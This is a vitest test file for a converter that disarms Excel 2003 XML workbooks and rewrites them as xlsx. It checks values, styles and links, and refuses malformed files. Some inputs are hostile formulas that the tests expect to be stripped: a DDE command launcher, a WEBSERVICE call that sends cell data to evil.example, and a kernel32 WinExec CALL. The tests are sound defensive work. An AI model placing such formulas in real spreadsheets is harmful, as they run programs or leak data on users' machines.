import { describe, expect, test } from 'vitest';
import { workbookXml } from '../../fixtures/build-workbook-xml.ts';
import { officeParts } from './contents.ts';
import { disarmed, refusalCode } from './run-disarm.ts';

async function run(xml: string, name = 'report.xls') {
  const report = await disarmed(xml, name);
  const parts = await officeParts(report.bytes);
  const part = (path: string) => Buffer.from(parts.get(path) ?? '', 'latin1').toString('utf8');
  const texts = Array.from(part('xl/sharedStrings.xml').matchAll(/<t[^>]*>([^<]*)</g), ([, text]) => text);
  return {
    ...report,
    parts,
    texts,
    sheet: part('xl/worksheets/sheet1.xml'),
    styles: part('xl/styles.xml'),
    book: part('xl/workbook.xml'),
    comments: part('xl/comments1.xml'),
  };
}

const data = (type: string, value: string) => `<Data ss:Type="${type}">${value}</Data>`;
const cell = (text: string, attributes = '') => `<Cell${attributes}>${data('String', text)}</Cell>`;
const row = (...cells: readonly string[]) => `<Row>${cells.join('')}</Row>`;

describe('an Excel 2003 workbook in XML becomes xlsx', () => {
  test('under the name of a workbook, of XML, and without one', async () => {
    for (const name of ['report.xls', 'report.xml', ''])
      expect([name, (await run(workbookXml({ rows: row(cell('kept')) }), name)).extension]).toEqual([name, 'xlsx']);
  });

  test('with the values of its cells in their places', async () => {
    const rows =
      row(cell('a &lt;b&gt; &amp; c'), `<Cell ss:Index="4" ss:Formula="=RC[-1]*2">${data('Number', '7.5')}</Cell>`) +
      `<Row ss:Index="5">${[`<Cell>${data('Boolean', '1')}</Cell>`, `<Cell>${data('Error', '#N/A')}</Cell>`, `<Cell>${data('DateTime', '2005-03-15T12:00:00.000')}</Cell>`].join('')}</Row>`;
    const { sheet, texts, kinds, quality } = await run(workbookXml({ rows }), 'a.xml');
    expect(texts).toEqual(['a &lt;b&gt; &amp; c']);
    for (const part of [
      '<c r="A1" t="s"><v>0</v></c><c r="D1"><f>C1*2</f><v>7.5</v></c>',
      '<row r="5"><c r="A5" t="b"><v>1</v></c><c r="B5" t="e"><v>#N/A</v></c><c r="C5"><v>38426.5</v></c></row>',
    ])
      expect(sheet).toContain(part);
    expect(kinds).toEqual(['workbook in XML']);
    expect(quality.units).toEqual({ kind: 'sheets', before: 1, after: 1 });
  });

  test.each([
    ['1900-01-01', '1'],
    ['1900-02-28', '59'],
    ['1900-03-01', '61'],
  ])('with the day %s as Excel counts it', async (day, number) => {
    expect(
      (await run(workbookXml({ rows: row(`<Cell>${data('DateTime', `${day}T00:00:00.000`)}</Cell>`) }))).sheet,
    ).toContain(`<v>${number}</v>`);
  });

  test('with its formulas in the form of xlsx, and the values that they last had', async () => {
    const formula = (code: string, type: string, value: string) =>
      `<Cell ss:Formula="${code}">${data(type, value)}</Cell>`;
    const cells = [
      formula('=SUM(R[1]C:R[2]C)', 'Number', '3'),
      formula('=RC[-1]&amp;&quot; _x0041_ &lt;pieces&gt;&quot;', 'String', '3 _x0041_ &lt;pieces&gt;'),
      formula('=R1C1&gt;2', 'Boolean', '1'),
      formula('=1/0', 'Error', '#DIV/0!'),
    ];
    const { sheet, kinds } = await run(workbookXml({ rows: row(...cells) + row(cell('a')) }));
    for (const part of [
      '<c r="A1"><f>SUM(A2:A3)</f><v>3</v></c>',
      '<c r="B1" t="str"><f>A1&amp;" _x005F_x0041_ &lt;pieces&gt;"</f><v>3 _x005F_x0041_ &lt;pieces&gt;</v></c>',
      '<c r="C1" t="b"><f>$A$1&gt;2</f><v>1</v></c>',
      '<c r="D1" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
    ])
      expect(sheet).toContain(part);
    expect(kinds).not.toContain('formula');
  });

  test.each([
    ['that starts a program', "=cmd|' /c calc'!A0"],
    ['that loads', '=WEBSERVICE(&quot;https://evil.example/&quot;&amp;RC[1])'],
    ['that calls a macro', '=CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)'],
    ['of another workbook', '=[other.xls]Sheet1!R1C1'],
    ['with a name', '=Total*2'],
    ['that fills cells', '=R[1]C:R[2]C&quot; ss:ArrayRange=&quot;RC:R[1]C'.replaceAll('&quot;', '"')],
  ])('without a formula %s, which is named, and with its value', async (_, code) => {
    const { sheet, kinds } = await run(
      workbookXml({ rows: row(`<Cell ss:Formula="${code}">${data('Number', '7')}</Cell>`) }),
    );
    expect(sheet).toContain('<c r="A1"><v>7</v></c>');
    expect(kinds).toContain('formula');
  });

  test('with text that is no number of a character, though it is spelled like one', async () => {
    const { texts } = await run(workbookXml({ rows: row(cell('_x0041_'), cell('a_x000D_x'), cell('_x41_')) }));
    expect(texts).toEqual(['_x005F_x0041_', 'a_x005F_x000D_x', '_x41_']);
  });

  test('with the plain look of cells that name no style, whichever style comes first', async () => {
    const styles = '<Style ss:ID="day"><Font ss:Bold="1"/><NumberFormat ss:Format="Short Date"/></Style>';
    const number = data('Number', '12.5');
    const rows = `<Column ss:Index="3" ss:StyleID="day"/>${row(`<Cell>${number}</Cell>`, `<Cell ss:StyleID="day">${number}</Cell>`, `<Cell>${number}</Cell>`, `<Cell>${number}</Cell>`)}`;
    const { sheet, styles: written } = await run(workbookXml({ styles, rows }));
    expect(sheet).toContain('<c r="A1"><v>12.5</v></c><c r="B1" s="1"><v>12.5</v></c>');
    // A cell looks like its column when it says nothing else.
    expect(sheet).toContain('<c r="C1" s="1"><v>12.5</v></c><c r="D1"><v>12.5</v></c>');
    expect(written).toMatch(/<cellXfs count="2"><xf numFmtId="0" fontId="0"[^>]*><xf numFmtId="14" fontId="1"/);
    expect(written).toMatch(/<fonts count="2"><font><sz/);
  });

  test('with truth in words and in numbers', async () => {
    const rows = row(...['1', 'true', '0', 'FALSE'].map((value) => `<Cell>${data('Boolean', value)}</Cell>`));
    const { sheet } = await run(workbookXml({ rows }));
    expect([...sheet.matchAll(/<v>(\d)<\/v>/g)].map(([, value]) => value)).toEqual(['1', '1', '0', '0']);
  });

  test('with every row that is hidden at once', async () => {
    const { sheet } = await run(workbookXml({ rows: `<Row ss:Hidden="1" ss:Span="1"/>${row(cell('seen'))}` }));
    expect(sheet).toContain('<row r="1" hidden="1"></row><row r="2" hidden="1"></row><row r="3">');
  });

  test('in time, also with thousands of comments', async () => {
    const comment = '<Cell><Comment><Data>a</Data></Comment></Cell>';
    const { comments } = await run(workbookXml({ rows: row(comment.repeat(200)).repeat(40) }));
    expect(comments.match(/<comment /g)).toHaveLength(8_000);
  });

  test('with its styles, which have what their parents have', async () => {
    const styles =
      '<Style ss:ID="Default"><Alignment ss:Vertical="Bottom"/><Font ss:FontName="Verdana" ss:Size="9"/></Style>' +
      '<Style ss:ID="head"><Alignment ss:Horizontal="Center" ss:WrapText="1" ss:Rotate="-45"/><Font ss:Bold="1" ss:Color="#FF0000" ss:Underline="Single"/><Interior ss:Color="#FFFF00" ss:Pattern="Solid"/><Borders><Border ss:Position="Bottom" ss:LineStyle="Continuous" ss:Weight="2" ss:Color="#0000FF"/></Borders></Style>' +
      '<Style ss:ID="day" ss:Parent="head"><NumberFormat ss:Format="Short Date"/></Style><Style ss:ID="own"><NumberFormat ss:Format="#,##0.000"/></Style>';
    const { sheet, styles: markup } = await run(
      workbookXml({
        styles,
        rows: row(cell('a', ' ss:StyleID="head"'), cell('b', ' ss:StyleID="day"'), cell('c', ' ss:StyleID="own"')),
      }),
    );
    expect(sheet).toMatch(/r="A1" s="1".*r="B1" s="2".*r="C1" s="3"/);
    expect(markup).toContain(
      '<font><b/><u val="single"/><sz val="9"/><color rgb="FFFF0000"/><name val="Verdana"/></font>',
    );
    expect(markup).toContain('<fgColor rgb="FFFFFF00"/>');
    expect(markup).toContain('<bottom style="medium"><color rgb="FF0000FF"/></bottom>');
    expect(markup).toContain('formatCode="#,##0.000"');
    expect(markup).toMatch(/<xf numFmtId="14"[^>]*><alignment horizontal="center" wrapText="1" textRotation="135"\/>/);
  });

  test('with sizes, merged cells, frozen panes and hidden sheets', async () => {
    const rows = `<Column ss:Width="105"/><Column ss:Index="3" ss:Span="1" ss:Hidden="1"/><Row ss:Height="30">${cell('wide', ' ss:MergeAcross="2" ss:MergeDown="1"')}${cell('behind')}</Row>`;
    const options =
      '<WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><FreezePanes/><SplitHorizontal>1</SplitHorizontal><SplitVertical>2</SplitVertical></WorksheetOptions>';
    const other =
      '<Worksheet ss:Name="Other"><Table/><WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetVeryHidden</Visible></WorksheetOptions></Worksheet>';
    const { sheet, book } = await run(workbookXml({ rows, behind: options, sheets: other }));
    expect(sheet).toContain(
      '<col min="1" max="1" width="20" customWidth="1"/><col min="3" max="4" width="9.140625" hidden="1"/>',
    );
    expect(sheet).toContain('<row r="1" ht="30" customHeight="1">');
    expect(sheet).toContain('<mergeCell ref="A1:C2"/>');
    expect(sheet).toContain('<c r="D1"');
    expect(sheet).toContain('<pane xSplit="2" ySplit="1" topLeftCell="C2" activePane="bottomRight" state="frozen"/>');
    expect(book).toContain('name="Other" sheetId="2" state="hidden"');
  });

  test('with words in bold, and comments without their author', async () => {
    const rich =
      '<ss:Data ss:Type="String" xmlns="http://www.w3.org/TR/REC-html40"><B>bold</B> and plain<script>1</script></ss:Data>';
    const note = `<Comment ss:Author="LIVE"><ss:Data xmlns="http://www.w3.org/TR/REC-html40"><B>Note:</B> see below</ss:Data></Comment>`;
    const { texts, comments, parts, quality } = await run(workbookXml({ rows: row(`<Cell>${rich}${note}</Cell>`) }));
    expect(texts).toEqual(['bold and plain1']);
    expect(comments).toContain('Note: see below');
    expect([...parts.values()].join()).not.toMatch(/LIVE|<script/);
    expect(quality.words?.kept).toBe(quality.words?.before);
  });

  test('with links to the web and within, and without others', async () => {
    const link = (target: string) => cell('a link', ` ss:HRef="${target}"`);
    const formula = `<Cell ss:Formula="=HYPERLINK(&quot;https://by-formula.example/&quot;,&quot;x&quot;)">${data('String', 'x')}</Cell>`;
    const { sheet, parts, kinds } = await run(
      workbookXml({
        rows: row(link('https://kept.example/'), link('file:///c:/LIVE.exe'), link('#Sheet1!A1'), formula),
      }),
    );
    const links = parts.get('xl/worksheets/_rels/sheet1.xml.rels') ?? '';
    expect(links).toContain('https://kept.example/');
    expect(links).toContain('https://by-formula.example/');
    expect(sheet).toContain('<hyperlink ref="C1" location="Sheet1!A1"/>');
    expect([...parts.values()].join()).not.toContain('LIVE');
    expect(kinds).toContain('unsafe link');
  });
});

test.each([
  [
    'with a document type',
    workbookXml().replace('<Workbook', '<!DOCTYPE Workbook [<!ENTITY a "b">]><Workbook'),
    'unsupported',
  ],
  ['with a cell in no column', workbookXml({ rows: row('<Cell ss:Index="16385"/>') }), 'oversize'],
  ['with a row that no program has', workbookXml({ rows: '<Row ss:Index="1048577"/>' }), 'oversize'],
  [
    'with two cells in one place',
    workbookXml({ rows: row(cell('a', ' ss:Index="2"'), cell('b', ' ss:Index="2"')) }),
    'unreadable',
  ],
  ['with more sheets than anybody has', workbookXml({ sheets: '<Worksheet/>'.repeat(5_000) }), 'oversize'],
  ['with a cell outside of a row', workbookXml({ rows: cell('a') }), 'unreadable'],
  ['that is cut off', workbookXml().slice(0, -20), 'unreadable'],
])('a workbook in XML %s is refused', async (_, content, code) => {
  expect(await refusalCode(content, 'report.xls')).toBe(code);
});
